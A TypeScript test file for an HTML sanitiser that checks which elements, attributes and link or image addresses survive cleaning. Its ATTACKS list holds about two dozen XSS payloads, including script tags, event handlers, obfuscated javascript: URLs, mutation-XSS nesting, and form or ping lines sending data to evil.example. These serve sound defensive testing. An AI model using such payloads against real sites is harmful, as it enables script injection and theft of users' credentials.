import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';

import { harmless, type Part, safeImage, safeLink, type Source } from './harmless';

const HERE = 'https://street.example.org';

/** What the parser found, as a browser has it. */
function asSource(node: DefaultTreeAdapterTypes.ChildNode): Source {
  if ('value' in node) return { nodeType: 3, nodeValue: node.value, childNodes: [] };
  if (!('tagName' in node)) return { nodeType: 8, nodeValue: null, childNodes: [] };
  return {
    nodeType: 1,
    nodeValue: null,
    localName: node.tagName,
    namespaceURI: node.namespaceURI,
    attributes: node.attrs,
    childNodes: node.childNodes.map(asSource),
  };
}

function clean(html: string, headings = true): { parts: readonly Part[]; leftOut: readonly string[] } {
  return harmless(parseFragment(html).childNodes.map(asSource), HERE, headings);
}

/** The parts written down, to be compared. */
function written(parts: readonly Part[]): string {
  return parts
    .map((part) => {
      if (typeof part === 'string') return part;
      const attributes = part.attributes.map(([name, value]) => ` ${name}=${value}`).join('');
      return `<${part.tag}${attributes}>${written(part.children)}</${part.tag}>`;
    })
    .join('');
}

const shown = (html: string): string => written(clean(html).parts);

function everyPart(parts: readonly Part[]): Part[] {
  return parts.flatMap((part) => (typeof part === 'string' ? [part] : [part, ...everyPart(part.children)]));
}

describe('what may be in a page', () => {
  it('stays', () => {
    const html = '<h1>Terms</h1><p lang="fr" dir="ltr">Soyez <em>gentils</em></p><ol start="3"><li>x</li></ol>';
    expect(shown(html)).toBe('<h1>Terms</h1><p lang=fr dir=ltr>Soyez <em>gentils</em></p><ol start=3><li>x</li></ol>');
    expect(clean(html).leftOut).toEqual([]);
  });

  it('has links that tell nobody where they were followed from', () => {
    expect(shown('<a href="https://example.org/a?b=c" target="_blank" rel="opener">x</a>')).toBe(
      '<a href=https://example.org/a?b=c rel=noopener noreferrer>x</a>',
    );
    expect(clean('<a href="/upload" target="_blank" rel="opener">x</a>').leftOut).toEqual([]);
    expect(shown('<a href="/upload">x</a>')).toBe(`<a href=${HERE}/upload rel=noopener noreferrer>x</a>`);
    expect(shown('<a href="mailto:a@example.org">x</a>')).toContain('href=mailto:a@example.org');
  });

  it('has no headings in a banner', () => {
    expect(written(clean('<h1>Hello</h1><h2>you</h2><hr>', false).parts)).toBe('<p>Hello</p><p>you</p><hr></hr>');
  });

  it('keeps what is in elements that are not known', () => {
    const { parts, leftOut } = clean('<form action="/api/x"><section>one <font color=red>two</font></section></form>');
    expect(written(parts)).toBe('one two');
    expect(leftOut).toEqual(['form', 'section', 'font']);
  });

  it('has pictures of this server only; of others, what they show', () => {
    expect(shown('<img src="/logo.png" alt="Logo" onerror="x()">')).toBe(`<img src=${HERE}/logo.png alt=Logo></img>`);
    const { parts, leftOut } = clean('<img src="https://elsewhere.example/p.gif" alt="Logo">');
    expect(written(parts)).toBe('Logo');
    expect(leftOut).toEqual(['img src']);
  });
});

const ATTACKS = [
  '<script>attack()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=attack()>',
  '<img src="javascript:attack()">',
  '<img src=data:image/svg+xml;base64,PHN2Zy8+>',
  '<img srcset="https://evil.example/p.gif 1x" style="background:url(//evil.example)">',
  '<svg onload=attack()><script>attack()</script><a xlink:href="javascript:attack()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
  '<a href="javascript:attack()">x</a>',
  '<a href=" &#1; java&#x09;script&colon;attack()">x</a>',
  '<a href="JaVaScRiPt:attack()">x</a>',
  '<a href="vbscript:attack()">x</a><a href="data:text/html,<script>attack()</script>">x</a>',
  '<a href="blob:https://street.example.org/x">x</a>',
  '<a href="#content" ping="https://evil.example">x</a>',
  '<iframe srcdoc="<script>attack()</script>"></iframe><object data=x></object><embed src=x>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=attack()><button formaction=javascript:attack()>x</button></form>',
  '<template><script>attack()</script></template><noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
  '<style>* { display: none }</style><link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<p id="content" class="toasts" style="position:fixed;inset:0" data-testid="x" onclick="attack()" is="x-y" slot="x">x</p>',
  '<details ontoggle=attack() open><summary>x</summary></details><video src=x onerror=attack()><source src=x></video>',
  '<!--><img src=x onerror=attack()>-->',
  '<button popovertarget=x></button><div popover onbeforetoggle=attack()>x</div>',
];

describe('attacks', () => {
  it.each(ATTACKS)('%s is left out', (html) => {
    const { parts } = clean(html);
    for (const part of everyPart(parts)) {
      if (typeof part === 'string') continue;
      expect(part.tag).not.toMatch(/^(?:script|style|svg|math|iframe|object|embed|form|input|button|template|noscript|link|base|meta|video|source)$/);
      for (const [name, value] of part.attributes) {
        expect(name).toMatch(/^(?:href|src|alt|rel|lang|title|dir)$/);
        if (name === 'href') expect(value).toMatch(/^(?:https?|mailto|tel):/);
        if (name === 'src') expect(value.startsWith(`${HERE}/`)).toBe(true);
      }
    }
  });

  it('are named to who writes', () => {
    expect(clean('<script>x</script><p onclick=x style=x>a</p><a href="javascript:x">b</a>').leftOut).toEqual([
      'script',
      'onclick',
      'style',
      'href',
    ]);
  });
});

describe('addresses', () => {
  it.each([
    ['javascript:x', null],
    ['\u0001javascript:x', null],
    ['java\nscript:x', null],
    ['#x', null],
    ['http://[', null],
    ['terms-of-service', `${HERE}/pages/terms-of-service`],
    ['//elsewhere.example/x', 'https://elsewhere.example/x'],
    ['tel:+33123', 'tel:+33123'],
  ])('%j leads to %j', (value, address) => {
    expect(safeLink(value, HERE)).toBe(address);
  });

  it.each([
    ['/x.png', `${HERE}/x.png`],
    [`${HERE}/x.png`, `${HERE}/x.png`],
    ['//elsewhere.example/x.png', null],
    ['data:image/png;base64,x', null],
    ['mailto:x', null],
    [`blob:${HERE}/x`, null],
  ])('a picture at %j is at %j', (value, address) => {
    expect(safeImage(value, HERE)).toBe(address);
  });
});
